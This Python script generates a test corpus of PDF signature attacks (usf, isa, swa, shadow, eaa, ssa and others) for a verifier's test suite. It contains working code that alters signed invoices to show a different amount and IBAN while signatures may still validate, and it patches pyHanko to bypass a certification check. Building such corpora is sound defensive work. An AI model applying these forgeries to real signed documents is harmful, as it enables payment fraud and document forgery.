#!/usr/bin/env python3
"""Builds the PDF signature attack corpus of AttackCorpusTests (issue #12 item 4).

Usage:
  make_attacks.py --write-unsigned-bases DIR
      writes the unsigned base documents (base.pdf, base-info-shared.pdf, base-xrefstream.pdf) that the
      Swift test seals in-process with PAdESSealer before the second call
  make_attacks.py PKI_DIR OUT_DIR [--sealbatch-base FILE]...
      signs/certifies the bases with pyHanko, applies every attack and benign control, and writes
      OUT_DIR/<attack>--<base>.pdf plus OUT_DIR/manifest.tsv
      (file, family, base, expect, pyhanko_expect, description)

PKI_DIR is what Support/make-pki.sh made (leaf, leaf-ec, leaf-eku-server, leaf-eku-tsa, tsa, chain.pem).
A sealbatch base is named after its file stem (sealbatch.pdf -> base "sealbatch").

The families are those of the published attacks:
  usf, isa, swa           Mladenov et al., "1 Trillion Dollar Refund", CCS 2019
  shadow-hide, shadow-replace, shadow-hide-replace
                          Mainka et al., "Shadow Attacks", NDSS 2021
  eaa, ssa                Mainka et al., "Breaking the Specification: PDF Certification", IEEE S&P 2021
plus form (new fields presented as form filling), docmdp (P=1/P=2/P=3 violations), cert-usage (EKU) and
benign controls that a verifier must let through.

The unsigned bases are written as raw PDF (not with reportlab): the attacks need an exact object layout
(a hidden optional content group, a page outside the page tree, /Info shared with the page resources, an
empty signature field). Every attack is an incremental update appended to a correctly signed file
(classic xref unless the base uses an xref stream: then the update does too; usf builds the signature
itself, swa rewrites the signed file's layout), written with pyHanko's IncrementalPdfFileWriter where
pyHanko writes it, and with raw bytes (append_update) where it does not. An attack whose precondition is
missing in a base (no optional content group, no /Info shared with a resource dictionary...) is skipped
for that base, so any sealbatch-sealed file can be a base.

pyhanko_expect is the verdict observed with pyHanko 0.38 (Support/pyhanko_validate.py, no revocation):
AttackCorpusTests checks it against a live run, so a change in pyHanko or in a generator shows up.
"""
import argparse
import asyncio
import hashlib
import io
import os
import re
import sys

# --------------------------------------------------------------------------------------------------
# Unsigned base documents (raw PDF: the attacks need an exact object layout)
# --------------------------------------------------------------------------------------------------

HEADER = b'%PDF-1.7\n%\xe2\xe3\xcf\xd3\n'
DOC_ID = b'<5345414c424154434841545441434b53> <5345414c424154434841545441434b53>'


def stream(d: bytes, data: bytes) -> bytes:
    return b'<< ' + d + b' /Length %d >>\nstream\n' % len(data) + data + b'\nendstream'


XMP = b'''<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?>
<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title><rdf:Alt>
<rdf:li xml:lang="x-default">%s</rdf:li></rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta>
<?xpacket end="w"?>'''

PAGE_TEXT = (b'BT /F1 18 Tf 72 760 Td (Invoice 2026-0042) Tj ET\n'
             b'BT /F1 14 Tf 72 720 Td (Amount due: 100.00 EUR) Tj ET\n'
             b'BT /F1 12 Tf 72 700 Td (Pay to: IBAN DE00 1111 2222 3333 4444) Tj ET\n'
             b'q 1 0 0 1 440 730 cm /X1 Do Q\n'
             b'/OC /L1 BDC 1 1 1 rg 60 690 480 50 re f 0 0 0 rg\n'
             b'BT /F1 14 Tf 72 720 Td (Amount due: 99,000.00 EUR) Tj ET\n'
             b'BT /F1 12 Tf 72 700 Td (Pay to: IBAN XX99 6666 6666 6666 6666) Tj ET EMC\n'
             b'BT /F1 10 Tf 72 618 Td (Name:) Tj ET\n')
HIDDEN_PAGE_TEXT = (b'BT /F1 18 Tf 72 760 Td (Invoice 2026-0042) Tj ET\n'
                    b'BT /F1 14 Tf 72 720 Td (Amount due: 99,000.00 EUR) Tj ET\n'
                    b'BT /F1 12 Tf 72 700 Td (Pay to: IBAN XX99 6666 6666 6666 6666) Tj ET\n')


def base_objects(info_shared: bool) -> tuple[dict, bytes]:
    """One page with text, a Form XObject logo, a hidden OCG layer, a text field, an empty visible
    signature field (Approver), XMP metadata, and a page that is in the file but not in the page tree."""
    o = {}
    o[1] = (b'<< /Type /Catalog /Pages 2 0 R /AcroForm 9 0 R /Metadata 12 0 R /OCProperties << /OCGs [8 0 R] '
            b'/D << /Order [8 0 R] /ON [] /OFF [8 0 R] >> >> >>')
    o[2] = b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>'
    o[3] = (b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources 5 0 R /Contents 4 0 R '
            b'/Annots [10 0 R 13 0 R] >>')
    o[4] = stream(b'', PAGE_TEXT)
    o[5] = (b'<< /Font << /F1 6 0 R >> /XObject << /X1 7 0 R >> /Properties << /L1 8 0 R >> /ProcSet [/PDF /Text]'
            + (b' /Title (Invoice 2026-0042) /Producer (sealbatch attack corpus)' if info_shared else b'') + b' >>')
    o[6] = b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>'
    o[7] = stream(b'/Type /XObject /Subtype /Form /BBox [0 0 110 50] /Resources << /Font << /F1 6 0 R >> >>',
                  b'0 0 0.6 rg 0 0 110 50 re f BT 1 1 1 rg /F1 12 Tf 12 20 Td (ACME Ltd) Tj ET')
    o[8] = b'<< /Type /OCG /Name (Correction layer) >>'
    o[9] = b'<< /Fields [10 0 R 13 0 R] /DA (/Helv 0 Tf 0 g) /DR << /Font << /Helv 6 0 R >> >> >>'
    o[10] = (b'<< /Type /Annot /Subtype /Widget /FT /Tx /T (Name) /V () /DA (/Helv 10 Tf 0 g) '
             b'/Rect [110 610 300 630] /F 4 /P 3 0 R /AP << /N 11 0 R >> >>')
    o[11] = stream(b'/Type /XObject /Subtype /Form /BBox [0 0 190 20] /Resources << /Font << /Helv 6 0 R >> >>',
                   b'/Tx BMC EMC')
    o[12] = stream(b'/Type /Metadata /Subtype /XML', XMP % b'Invoice 2026-0042')
    o[13] = b'<< /Type /Annot /Subtype /Widget /FT /Sig /T (Approver) /Rect [340 80 540 140] /F 4 /P 3 0 R >>'
    o[14] = b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources 5 0 R /Contents 15 0 R >>'
    o[15] = stream(b'', HIDDEN_PAGE_TEXT)
    o[16] = b'<< /Title (Invoice 2026-0042) /Producer (sealbatch attack corpus) >>'
    info = 5 if info_shared else 16
    return o, b'/Root 1 0 R /Info %d 0 R /ID [%s]' % (info, DOC_ID)


def pdf_file(objs: dict, trailer: bytes, xref_stream=False) -> bytes:
    out = bytearray(HEADER)
    offs = {}
    for n in sorted(objs):
        offs[n] = len(out)
        out += b'%d 0 obj\n' % n + objs[n] + b'\nendobj\n'
    size = max(objs) + 1
    xo = len(out)
    if not xref_stream:
        out += b'xref\n0 %d\n0000000000 65535 f \n' % size
        out += b''.join(b'%010d 00000 n \n' % offs[n] for n in range(1, size))
        out += b'trailer\n<< /Size %d ' % size + trailer + b' >>\nstartxref\n%d\n%%%%EOF\n' % xo
    else:
        offs[size] = xo
        rows = b'\x00\x00\x00\x00\x00\xff\xff' + b''.join(
            b'\x01' + offs[i].to_bytes(4, 'big') + b'\x00\x00' for i in range(1, size + 1))
        out += (b'%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] ' % (size, size + 1) + trailer
                + b' /Length %d >>\nstream\n' % len(rows) + rows + b'\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n' % xo)
    return bytes(out)


def write_unsigned_bases(d: str):
    os.makedirs(d, exist_ok=True)
    o, t = base_objects(False)
    with open(os.path.join(d, 'base.pdf'), 'wb') as f:
        f.write(pdf_file(o, t))
    with open(os.path.join(d, 'base-xrefstream.pdf'), 'wb') as f:
        f.write(pdf_file(o, t, xref_stream=True))
    o, t = base_objects(True)
    with open(os.path.join(d, 'base-info-shared.pdf'), 'wb') as f:
        f.write(pdf_file(o, t))


if __name__ == '__main__' and len(sys.argv) == 3 and sys.argv[1] == '--write-unsigned-bases':
    write_unsigned_bases(sys.argv[2])
    sys.exit(0)

# --------------------------------------------------------------------------------------------------
# pyHanko (only needed from here on)
# --------------------------------------------------------------------------------------------------

from pyhanko.keys import load_cert_from_pemder  # noqa: E402
from pyhanko.pdf_utils import generic  # noqa: E402
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter  # noqa: E402
from pyhanko.pdf_utils.reader import PdfFileReader  # noqa: E402
from pyhanko.sign import fields, signers  # noqa: E402
from pyhanko.sign.fields import MDPPerm  # noqa: E402
from pyhanko.sign.signers.pdf_signer import PdfSigner  # noqa: E402
from pyhanko.sign.timestamps import HTTPTimeStamper  # noqa: E402
from pyhanko.sign.validation.dss import DocumentSecurityStore  # noqa: E402
from pyhanko_certvalidator import ValidationContext  # noqa: E402


class Raw(generic.PdfObject):
    """Bytes written as they are inside a pyHanko object (a reference list, a dictionary we spell out)."""

    def __init__(self, b: bytes):
        self.b = b

    def write_to_stream(self, stream, handler=None, container_ref=None):
        stream.write(self.b)


def g(d, k, default=None):
    """d[k] resolved (pyHanko's DictionaryObject.get returns the indirect reference), or default."""
    return d[k] if d is not None and k in d else default


def ser(obj) -> bytes:
    buf = io.BytesIO()
    obj.write_to_stream(buf, None, None)
    return buf.getvalue()


def raw_copy(d: generic.DictionaryObject) -> generic.DictionaryObject:
    """A copy keeping indirect references as references (dict(d) would resolve them)."""
    return generic.DictionaryObject({k: d.raw_get(k) for k in d.keys()})


def ref_of(v):
    return v.idnum if isinstance(v, generic.IndirectObject) else None


def last_startxref(data: bytes) -> int:
    i = data.rindex(b'startxref')
    return int(data[i + 9:].split()[0])


class Doc:
    """A signed file as the attacker reads it: where the catalog, the first page and its parts are."""

    def __init__(self, data: bytes):
        self.data = data
        self.r = PdfFileReader(io.BytesIO(data), strict=False)
        t = self.r.trailer
        self.size = int(t['/Size'])
        self.next = self.size
        self.root_num = t.raw_get('/Root').idnum
        self.info_num = ref_of(t.raw_get('/Info')) if '/Info' in t else None
        self.id = ser(t['/ID']) if '/ID' in t else None
        self.xref_stream = not data[last_startxref(data):].startswith(b'xref')
        self.root = self.r.root
        self.pages_num = self.root.raw_get('/Pages').idnum
        self.page_nums = []

        def walk(ref):
            node = ref.get_object()
            if g(node, '/Type') == '/Pages':
                kids = node['/Kids']
                for i in range(len(kids)):
                    walk(kids.raw_get(i))
            else:
                self.page_nums.append(ref.idnum)
        walk(self.root.raw_get('/Pages'))
        self.page_num = self.page_nums[0]
        self.page = self.obj(self.page_num)

    def obj(self, n):
        return self.r.get_object(generic.Reference(n, 0))

    def alloc(self) -> int:
        n = self.next
        self.next += 1
        return n

    def raw_obj(self, n) -> bytes:
        """The bytes of the last definition of object n (classic files without object streams)."""
        ms = list(re.finditer(rb'(?<![0-9])%d 0 obj\s' % n, self.data))
        if not ms:
            return None
        start = ms[-1].end()
        end = self.data.index(b'endobj', start)
        return self.data[start:end].strip()

    def contents_num(self):
        c = self.page.raw_get('/Contents')
        if isinstance(c, generic.IndirectObject) and isinstance(c.get_object(), generic.StreamObject):
            return c.idnum
        if isinstance(c, generic.IndirectObject):  # an indirect array
            return c.get_object().raw_get(0).idnum
        return c.raw_get(0).idnum

    def resources(self):
        r = self.page.raw_get('/Resources')
        return r.get_object(), ref_of(r)

    def fields_holder(self):
        """(object number, dictionary) holding /Fields: the AcroForm object, or the catalog when direct."""
        af = self.root.raw_get('/AcroForm') if '/AcroForm' in self.root else None
        if isinstance(af, generic.IndirectObject):
            return af.idnum, raw_copy(af.get_object())
        return None, (raw_copy(af) if af is not None else generic.DictionaryObject({'/Fields': Raw(b'[]')}))

    def hidden_pages(self):
        """Page objects in the file that the page tree does not reach (in the signed revision)."""
        out = []
        for n in range(1, self.size):
            try:
                o = self.obj(n)
            except Exception:
                continue
            if isinstance(o, generic.DictionaryObject) and g(o, '/Type') == '/Page' and n not in self.page_nums:
                out.append(n)
        return out


def refs(nums) -> bytes:
    return b'[' + b' '.join(b'%d 0 R' % n for n in nums) + b']'


def raw_refs(arr) -> list:
    return [arr.raw_get(i) for i in range(len(arr))] if arr is not None else []


def append_update(doc: Doc, objs: dict, *, root=None, info='same', prev=True, full_table=False,
                  xref=None, trailer_extra=b'', no_xref=False, free=()) -> bytes:
    """Appends objects (number -> serialized value) as an incremental update: a classic xref section with a
    trailer, or an xref stream when the file already uses them (xref='stream'/'table' forces one)."""
    out = bytearray(doc.data)
    if not out.endswith(b'\n'):
        out += b'\n'
    offs = {}
    for n in sorted(objs):
        offs[n] = len(out)
        out += b'%d 0 obj\n' % n + objs[n] + b'\nendobj\n'
    if no_xref:
        return bytes(out)
    size = max([doc.size] + [n + 1 for n in objs])
    info_num = doc.info_num if info == 'same' else info
    trailer = b'/Root %d 0 R' % (root or doc.root_num)
    if info_num:
        trailer += b' /Info %d 0 R' % info_num
    if doc.id:
        trailer += b' /ID ' + doc.id
    if prev:
        trailer += b' /Prev %d' % last_startxref(doc.data)
    trailer += trailer_extra
    if full_table:  # every object, at its last definition in the file (no /Prev needed)
        for m in re.finditer(rb'(?:^|[\r\n])(\d+) 0 obj\s', bytes(out)):
            offs.setdefault(int(m.group(1)), None)
            offs[int(m.group(1))] = m.start() + (0 if m.group(0)[:1].isdigit() else 1)
        size = max(size, max(offs) + 1)
    use_stream = (xref == 'stream') or (xref is None and doc.xref_stream)
    xo = len(out)
    if not use_stream:
        out += b'xref\n'
        if full_table:
            out += b'0 %d\n0000000000 65535 f \n' % size
            for n in range(1, size):
                out += (b'%010d 00000 n \n' % offs[n]) if offs.get(n) is not None else b'0000000000 00000 f \n'
        elif not offs and not free:
            out += b'0 1\n0000000000 65535 f \n'
        else:
            for n in sorted(set(offs) | set(free)):
                out += (b'%d 1\n0000000000 00001 f \n' % n) if n in free else (b'%d 1\n%010d 00000 n \n' % (n, offs[n]))
        out += b'trailer\n<< /Size %d ' % size + trailer + b' >>\nstartxref\n%d\n%%%%EOF\n' % xo
    else:
        xn = size
        offs[xn] = xo
        nums = sorted(n for n in offs if offs[n] is not None)
        rows = b''.join(b'\x01' + offs[n].to_bytes(4, 'big') + b'\x00\x00' for n in nums)
        index = b' '.join(b'%d 1' % n for n in nums)
        out += (b'%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [%s] ' % (xn, xn + 1, index) + trailer
                + b' /Length %d >>\nstream\n' % len(rows) + rows + b'\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n' % xo)
    return bytes(out)


# --------------------------------------------------------------------------------------------------
# Signing with pyHanko, and raw signatures with chosen (broken) values
# --------------------------------------------------------------------------------------------------

class PKI:
    def __init__(self, d):
        self.d = d
        self.chain = os.path.join(d, 'chain.pem')
        self.root = load_cert_from_pemder(os.path.join(d, 'root.crt'))
        self._signers = {}

    def signer(self, name='leaf'):
        if name not in self._signers:
            self._signers[name] = signers.SimpleSigner.load(
                os.path.join(self.d, name + '.key'), os.path.join(self.d, name + '.crt'), ca_chain_files=(self.chain,))
        return self._signers[name]

    def timestamper(self):
        """The loopback TSA of Support/responder.py (PKI_DIR/base-url); pyHanko's DummyTimeStamper is RSA-only
        and the test TSA key is EC."""
        with open(os.path.join(self.d, 'base-url')) as f:
            return HTTPTimeStamper(f.read().strip() + '/tsa')


def pyhanko_sign(pki, data, field, certify=None, key='leaf', box=None, check_certification=True) -> bytes:
    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    meta = signers.PdfSignatureMetadata(
        field_name=field, subfilter=fields.SigSeedSubFilter.PADES, certify=certify is not None,
        docmdp_permissions=MDPPerm(certify) if certify else MDPPerm.FILL_FORMS)
    spec = fields.SigFieldSpec(field, box=box, on_page=0) if box else None
    out = io.BytesIO()
    saved = PdfSigner._enforce_certification_constraints
    if not check_certification:  # pyHanko refuses to sign after P=1: an attacker's tool does not
        PdfSigner._enforce_certification_constraints = lambda self, reader: None
    try:
        signers.sign_pdf(w, meta, signer=pki.signer(key), output=out, new_field_spec=spec)
    finally:
        PdfSigner._enforce_certification_constraints = saved
    return out.getvalue()


def pyhanko_lta(pki, data) -> bytes:
    """DSS (validation data of the signatures) plus a document time-stamp: `pyhanko sign ltaupdate`'s update."""
    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    vc = ValidationContext(trust_roots=[pki.root], allow_fetching=False, revocation_mode='soft-fail')
    out = io.BytesIO()
    signers.PdfTimeStamper(pki.timestamper()).timestamp_pdf(w, 'sha256', validation_context=vc, output=out)
    return out.getvalue()


CONTENTS_HEX = 16384  # placeholder size in hex digits


def raw_sign(pki, doc: Doc, *, variant='ok', key='leaf') -> bytes:
    """A new signature field + signature dictionary written by hand, so its values can be wrong:
    variant ok | contents-empty | contents-zeros | byterange-missing | byterange-zeros |
    byterange-not-from-start | gap-larger-than-contents. The CMS (PAdES, pyHanko's signer) is computed over
    the byte ranges that the file then declares, so only the defect itself is wrong."""
    sig_n, fld_n = doc.alloc(), doc.alloc()
    page = raw_copy(doc.page)
    page['/Annots'] = Raw(refs([ref_of(a) for a in raw_refs(g(doc.page, '/Annots'))] + [fld_n]))
    holder_n, holder = doc.fields_holder()
    holder['/Fields'] = Raw(refs([ref_of(f) for f in raw_refs(g(holder, '/Fields'))] + [fld_n]))
    holder['/SigFlags'] = generic.NumberObject(3)
    objs = {doc.page_num: ser(page)}
    if holder_n:
        objs[holder_n] = ser(holder)
    else:
        cat = raw_copy(doc.root)
        cat['/AcroForm'] = holder
        objs[doc.root_num] = ser(cat)
    extra = {}
    if variant == 'gap-larger-than-contents':
        # new page content placed just before the signature dictionary: the gap will swallow it
        cn = doc.contents_num()
        extra[cn] = stream(b'', b'BT /F1 14 Tf 72 720 Td (Amount due: 99,000.00 EUR) Tj ET')
    objs[fld_n] = (b'<< /Type /Annot /Subtype /Widget /FT /Sig /T (Forged) /V %d 0 R /Rect [0 0 0 0] /F 132 /P %d 0 R >>'
                   % (sig_n, doc.page_num))
    contents = b'<' + b'0' * (0 if variant == 'contents-empty' else CONTENTS_HEX) + b'>'
    br_placeholder = b'/ByteRange [0 0000000000 0000000000 0000000000]'
    sig = (b'<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /M (D:20260101120000Z) '
           + (b'' if variant == 'byterange-missing' else br_placeholder) + b' /Contents ' + contents + b' >>')
    # objects in this order: the extra content, then the signature dictionary, then the rest
    ordered = dict(extra)
    ordered[sig_n] = sig
    for k, v in objs.items():
        ordered.setdefault(k, v)
    data = bytearray(append_update_ordered(doc, ordered))
    sig_at = data.rindex(b'%d 0 obj\n' % sig_n)
    lt = data.index(b'/Contents <', sig_at) + len(b'/Contents ')
    gt = data.index(b'>', lt) + 1
    a, b, c = 0, lt, gt
    if variant == 'gap-larger-than-contents':
        b = data.rindex(b'%d 0 obj\n' % doc.contents_num(), 0, sig_at)
    if variant == 'byterange-not-from-start':
        a = len(doc.data)  # covers only the update: the original document is not signed
    ranges = [a, b - a, c, len(data) - c]
    if variant != 'byterange-missing':
        shown = [0, 0, 0, 0] if variant == 'byterange-zeros' else ranges
        text = ('/ByteRange [%d %d %d %d]' % tuple(shown)).encode()
        text = text[:-1] + b' ' * (len(br_placeholder) - len(text)) + b']'
        at = data.index(br_placeholder, sig_at)
        data[at:at + len(br_placeholder)] = text
    h = hashlib.sha256()
    h.update(data[ranges[0]:ranges[0] + ranges[1]])
    h.update(data[ranges[2]:ranges[2] + ranges[3]])
    if variant == 'foreign-cms':  # a valid CMS, but over other bytes (transplanted from another document)
        h = hashlib.sha256(doc.data)
    if variant not in ('contents-empty', 'contents-zeros'):
        cms = asyncio.run(pki.signer(key).async_sign(h.digest(), 'sha256', use_pades=True)).dump()
        hx = cms.hex().upper().encode()
        data[lt + 1:lt + 1 + len(hx)] = hx
    return bytes(data)


def append_update_ordered(doc: Doc, objs: dict) -> bytes:
    """append_update, but objects written in the dictionary's order (raw_sign needs the layout)."""
    out = bytearray(doc.data)
    if not out.endswith(b'\n'):
        out += b'\n'
    offs = {}
    for n, v in objs.items():
        offs[n] = len(out)
        out += b'%d 0 obj\n' % n + v + b'\nendobj\n'
    size = max([doc.size] + [n + 1 for n in objs])
    trailer = b'/Root %d 0 R' % doc.root_num + (b' /Info %d 0 R' % doc.info_num if doc.info_num else b'')
    trailer += (b' /ID ' + doc.id if doc.id else b'') + b' /Prev %d' % last_startxref(doc.data)
    xo = len(out)
    out += b'xref\n' + b''.join(b'%d 1\n%010d 00000 n \n' % (n, offs[n]) for n in sorted(offs))
    out += b'trailer\n<< /Size %d ' % size + trailer + b' >>\nstartxref\n%d\n%%%%EOF\n' % xo
    return bytes(out)


# --------------------------------------------------------------------------------------------------
# Attacks: each takes the signed file (Doc) and returns the attacked bytes, or None when the base lacks
# what the attack needs
# --------------------------------------------------------------------------------------------------

NEW_TEXT = b'BT /FX 14 Tf 72 720 Td (Amount due: 99,000.00 EUR) Tj ET BT /FX 12 Tf 72 700 Td (Pay to: IBAN XX99 6666) Tj ET'
OWN_FONT = b'<< /Font << /FX << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>'


def overlay_ap(doc: Doc, objs: dict, w=220, h=40, text=b'Amount due: 1.00 EUR') -> int:
    """A new opaque appearance stream (white box + text) in objs; returns its object number."""
    n = doc.alloc()
    objs[n] = stream(b'/Type /XObject /Subtype /Form /BBox [0 0 %d %d] /Resources ' % (w, h) + OWN_FONT,
                             b'1 1 1 rg 0 0 %d %d re f 0 0 0 rg BT /FX 14 Tf 2 %d Td (%s) Tj ET' % (w, h, h // 2 - 5, text))
    return n


def add_to_page_annots(doc: Doc, objs: dict, nums: list):
    page = raw_copy(doc.page)
    page['/Annots'] = Raw(refs([ref_of(a) for a in raw_refs(g(doc.page, '/Annots'))] + nums))
    objs[doc.page_num] = ser(page)


def add_to_fields(doc: Doc, objs: dict, nums: list, sigflags=False):
    holder_n, holder = doc.fields_holder()
    holder['/Fields'] = Raw(refs([ref_of(f) for f in raw_refs(g(holder, '/Fields'))] + nums))
    if sigflags:
        holder['/SigFlags'] = generic.NumberObject(3)
    if holder_n:
        objs[holder_n] = ser(holder)
    else:
        cat = raw_copy(doc.root)
        cat['/AcroForm'] = holder
        objs[doc.root_num] = ser(cat)


def a_new_catalog(doc: Doc):
    cat, pages, page, content = doc.alloc(), doc.alloc(), doc.alloc(), doc.alloc()
    new_cat = raw_copy(doc.root)  # keeps /AcroForm: the signatures are still found
    new_cat['/Pages'] = Raw(b'%d 0 R' % pages)
    objs = {
        cat: ser(new_cat),
        pages: b'<< /Type /Pages /Kids [%d 0 R] /Count 1 >>' % page,
        page: b'<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Resources %s /Contents %d 0 R >>' % (pages, OWN_FONT, content),
        content: stream(b'', b'BT /FX 18 Tf 72 760 Td (Invoice 2026-0042) Tj ET ' + NEW_TEXT),
    }
    return append_update(doc, objs, root=cat)


def a_ocg_on(doc: Doc):
    ocp = g(doc.root, '/OCProperties')
    if ocp is None or not g(g(ocp, '/D', {}), '/OFF'):
        return None
    cat = raw_copy(doc.root)
    ocgs = raw_refs(ocp['/OCGs'])
    cat['/OCProperties'] = Raw(b'<< /OCGs %s /D << /Order %s /ON %s /OFF [] >> >>'
                               % ((refs([ref_of(g) for g in ocgs]),) * 3))
    n = doc.alloc()
    return append_update(doc, {n: ser(cat)}, root=n)


def a_ocg_on_same_catalog(doc: Doc):
    out = a_ocg_on(doc)
    if out is None:
        return None
    d2 = Doc(doc.data)  # same change, catalog redefined under its own number
    cat = raw_copy(d2.root)
    ocgs = raw_refs(d2.root['/OCProperties']['/OCGs'])
    cat['/OCProperties'] = Raw(b'<< /OCGs %s /D << /Order %s /ON %s /OFF [] >> >>' % ((refs([ref_of(g) for g in ocgs]),) * 3))
    return append_update(d2, {d2.root_num: ser(cat)})


def dss_vri(doc: Doc, redefine: str):
    cat = raw_copy(doc.root)
    dss = doc.alloc()
    cat['/DSS'] = Raw(b'%d 0 R' % dss)
    key = hashlib.sha1(b'x').hexdigest().upper().encode()
    objs = {doc.root_num: ser(cat), dss: b'<< /Type /DSS /VRI << /%s %d 0 R >> >>' % (key, doc.page_num)}
    if redefine == 'page':
        c = doc.alloc()
        page = raw_copy(doc.page)
        page['/Contents'] = Raw(b'%d 0 R' % c)
        page['/Resources'] = Raw(OWN_FONT)
        objs[doc.page_num] = ser(page)
        objs[c] = stream(b'', NEW_TEXT)
    else:
        if '/F1' not in g(doc.resources()[0], '/Font', {}):
            return None
        objs[doc.contents_num()] = stream(b'', b'q 1 1 1 rg 0 0 595 842 re f Q ' + NEW_TEXT.replace(b'/FX', b'/F1'))
    return append_update(doc, objs)


def a_metadata_typed_content(doc: Doc):
    if '/F1' not in g(doc.resources()[0], '/Font', {}):
        return None
    data = b'q 1 1 1 rg 0 0 595 842 re f Q ' + NEW_TEXT.replace(b'/FX', b'/F1')
    return append_update(doc, {doc.contents_num(): stream(b'/Type /Metadata /Subtype /XML', data)})


def a_info_shared(doc: Doc):
    res, res_n = doc.resources()
    if res_n is None or res_n != doc.info_num:
        return None
    d = raw_copy(res)
    fn = doc.alloc()
    d['/Font'] = Raw(b'<< /F1 %d 0 R >>' % fn)
    d['/ModDate'] = generic.pdf_string('D:20260102000000Z')
    # Courier instead of Helvetica, and the hidden layer always on (the OC property now an OCMD)
    d['/Properties'] = Raw(b'<< /L1 << /Type /OCMD /OCGs [] >> >>')
    return append_update(doc, {res_n: ser(d), fn: b'<< /Type /Font /Subtype /Type1 /BaseFont /Courier /Encoding /WinAnsiEncoding >>'})


def first_form_xobject(doc: Doc):
    res, _ = doc.resources()
    xo = g(res, '/XObject')
    if not xo:
        return None
    for k in xo.keys():
        v = xo.raw_get(k)
        o = v.get_object()
        if isinstance(v, generic.IndirectObject) and g(o, '/Subtype') == '/Form':
            return v.idnum, o
    return None


def a_xobject_redefined(doc: Doc):
    x = first_form_xobject(doc)
    if x is None:
        return None
    n, o = x
    d = b'/Type /XObject /Subtype /Form /BBox [0 0 110 50] /Resources ' + OWN_FONT
    return append_update(doc, {n: stream(d, b'0.6 0 0 rg 0 0 110 50 re f BT 1 1 1 rg /FX 12 Tf 12 20 Td (EVIL Corp) Tj ET')})


def a_contents_redefined(doc: Doc):
    res, res_n = doc.resources()
    if '/F1' in g(res, '/Font', {}):
        return append_update(doc, {doc.contents_num(): stream(b'', b'q 1 1 1 rg 0 0 595 842 re f Q ' + NEW_TEXT.replace(b'/FX', b'/F1'))})
    c = doc.alloc()
    page = raw_copy(doc.page)
    page['/Contents'] = Raw(b'%d 0 R' % c)
    page['/Resources'] = Raw(OWN_FONT)
    return append_update(doc, {doc.page_num: ser(page), c: stream(b'', NEW_TEXT)})


def a_no_xref(doc: Doc):
    if '/F1' not in g(doc.resources()[0], '/Font', {}):
        return None
    return append_update(doc, {doc.contents_num(): stream(b'', b'q 1 1 1 rg 0 0 595 842 re f Q ' + NEW_TEXT.replace(b'/FX', b'/F1'))},
                         no_xref=True)


def a_no_prev(doc: Doc):
    if doc.xref_stream or '/F1' not in g(doc.resources()[0], '/Font', {}):
        return None
    return append_update(doc, {doc.contents_num(): stream(b'', b'q 1 1 1 rg 0 0 595 842 re f Q ' + NEW_TEXT.replace(b'/FX', b'/F1'))},
                         prev=False, full_table=True)


def a_font_replaced(doc: Doc):
    res, _ = doc.resources()
    f = g(res, '/Font')
    if not f:
        return None
    k = list(f.keys())[0]
    n = ref_of(f.raw_get(k))
    if n is None:
        return None
    # a Type3 font whose glyphs for the digits draw other digits would be the paper's; a different font
    # program under the same name is the same class of change
    return append_update(doc, {n: b'<< /Type /Font /Subtype /Type1 /BaseFont /Symbol >>'})


def a_kids_to_hidden(doc: Doc):
    hidden = doc.hidden_pages()
    if not hidden:
        return None
    pages = raw_copy(doc.obj(doc.pages_num))
    pages['/Kids'] = Raw(refs(hidden[:1]))
    return append_update(doc, {doc.pages_num: ser(pages)})


def a_new_text_field(doc: Doc):
    objs = {}
    ap = overlay_ap(doc, objs)
    fld = doc.alloc()
    objs[fld] = (b'<< /Type /Annot /Subtype /Widget /FT /Tx /T (Remark) /V (Amount due: 1.00 EUR) /DA (/Helv 14 Tf 0 g) '
                 b'/Rect [70 712 290 752] /F 4 /P %d 0 R /AP << /N %d 0 R >> >>' % (doc.page_num, ap))
    add_to_page_annots(doc, objs, [fld])
    add_to_fields(doc, objs, [fld])
    return append_update(doc, objs)


def annotation(doc: Doc, subtype: bytes, extra=b'') -> bytes:
    objs = {}
    ap = overlay_ap(doc, objs)
    a = doc.alloc()
    objs[a] = (b'<< /Type /Annot /Subtype /%s /Rect [70 712 290 752] /F 4 /P %d 0 R /AP << /N %d 0 R >> %s >>'
               % (subtype, doc.page_num, ap, extra))
    add_to_page_annots(doc, objs, [a])
    return append_update(doc, objs)


def a_eaa_freetext(doc):
    return annotation(doc, b'FreeText', b'/Contents (Amount due: 1.00 EUR) /DA (/Helv 14 Tf 0 g)')


def a_eaa_stamp(doc):
    return annotation(doc, b'Stamp', b'/Name /Approved')


def a_eaa_square(doc):
    return annotation(doc, b'Square', b'/IC [1 1 1] /C [1 1 1]')


def a_sticky_note(doc: Doc):
    objs = {}
    a = doc.alloc()
    objs[a] = b'<< /Type /Annot /Subtype /Text /Rect [560 800 580 820] /Contents (Checked by records office) /Name /Comment /P %d 0 R >>' % doc.page_num
    add_to_page_annots(doc, objs, [a])
    return append_update(doc, objs)


def a_ssa(doc: Doc):
    objs = {}
    ap = overlay_ap(doc, objs)
    fld = doc.alloc()
    objs[fld] = (b'<< /Type /Annot /Subtype /Widget /FT /Sig /T (Sneaky) /Rect [70 712 290 752] /F 4 /P %d 0 R '
                 b'/AP << /N %d 0 R >> >>' % (doc.page_num, ap))
    add_to_page_annots(doc, objs, [fld])
    add_to_fields(doc, objs, [fld], sigflags=True)
